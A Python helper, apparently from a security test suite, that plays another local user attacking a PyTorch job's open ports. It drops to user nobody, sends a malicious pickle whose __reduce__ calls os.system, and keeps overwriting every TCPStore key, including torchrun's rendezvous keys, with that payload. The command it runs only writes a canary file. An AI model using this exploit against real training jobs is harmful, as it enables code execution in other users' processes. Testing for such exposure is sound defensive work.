"""What another user of this machine can do to a job's open ports: `python other_user.py CANARY ADDRESS PORT ...`.

As nobody it opens torch's store on each port, puts a pickle that writes the file CANARY under every key that it finds
there, both plain and as torchrun keeps its own, and sends the same to ports that are no store. It prints what it met.
"""

from __future__ import annotations

import base64
import datetime
import json
import os
import pickle
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterable
from pathlib import Path

import psutil

NOBODY = 65534
FOR_S = 5
"""How long the keys are overwritten: torchrun reads its own ten times a second."""


class Payload:
    """Runs a command in whoever unpickles it."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"id -u > '{self.canary}'",)


def processes_marked(mark: str) -> list[psutil.Process]:
    """Return the processes of this machine that have the word in their environment."""
    found = []
    for process in psutil.process_iter():
        try:
            if mark in process.environ().values():
                found.append(process)
        except psutil.Error:
            continue
    return found


def listening(processes: Iterable[psutil.Process]) -> set[tuple[str, int]]:
    """Return the addresses and ports that processes listen on, of the kernel's tables (/proc/net/tcp, tcp6)."""
    found = set()
    for process in processes:
        try:
            connections = process.net_connections("tcp")
        except psutil.Error:
            continue
        found |= {(one.laddr.ip, one.laddr.port) for one in connections if one.status == psutil.CONN_LISTEN}
    return found


class Attack:
    """All that nobody can do to these places: the `keys` of the stores met there, and whether code of nobody's ran."""

    def __init__(self, canary: Path, places: Iterable[tuple[str, int]]) -> None:
        self._canary = canary
        told = [str(word) for place in places for word in place]
        done = subprocess.run(
            [sys.executable, __file__, str(canary), *told], capture_output=True, text=True, timeout=60 + FOR_S
        )
        assert done.returncode == 0, done.stderr
        self.keys = [key for line in done.stdout.splitlines() for key in json.loads(line)]

    @property
    def succeeded(self) -> bool:
        """Whether the payload has run."""
        return self._canary.exists()


def become_nobody() -> None:
    """Give up root for good."""
    assert os.getuid() == 0, "the attack needs root once, to become somebody else: run these tests as root"
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)


def attack(canary: Path, address: str, port: int) -> None:
    """Attack one place and print the keys that a store holds there."""
    from torch.distributed import TCPStore

    plain = pickle.dumps(Payload(canary))
    with socket.create_connection((address, port), timeout=2) as knocking:
        knocking.sendall(plain)
    store = TCPStore(address, port, is_master=False, timeout=datetime.timedelta(seconds=3), wait_for_workers=False)
    keys = [key.removeprefix("/") for key in store.list_keys()]
    print(json.dumps(keys), flush=True)
    while True:
        for key in keys:
            store.set(key, base64.b64encode(plain) if key.startswith("torch.rendezvous.") else plain)
        time.sleep(0.05)


def main(canary: Path, places: list[tuple[str, int]]) -> None:
    """Attack every place at once, each in a process that ends after a while: what is no store may never answer."""
    # Nobody may not be able to read these.
    import encodings.idna  # noqa: F401

    import torch.distributed  # noqa: F401

    become_nobody()
    for address, port in places:
        if os.fork() == 0:
            signal.alarm(FOR_S)
            attack(canary, {"0.0.0.0": "127.0.0.1", "::": "127.0.0.1"}.get(address, address), port)
    for _ in places:
        os.wait()


if __name__ == "__main__":
    given = sys.argv[2:]
    main(Path(sys.argv[1]), [(address, int(port)) for address, port in zip(given[::2], given[1::2], strict=True)])
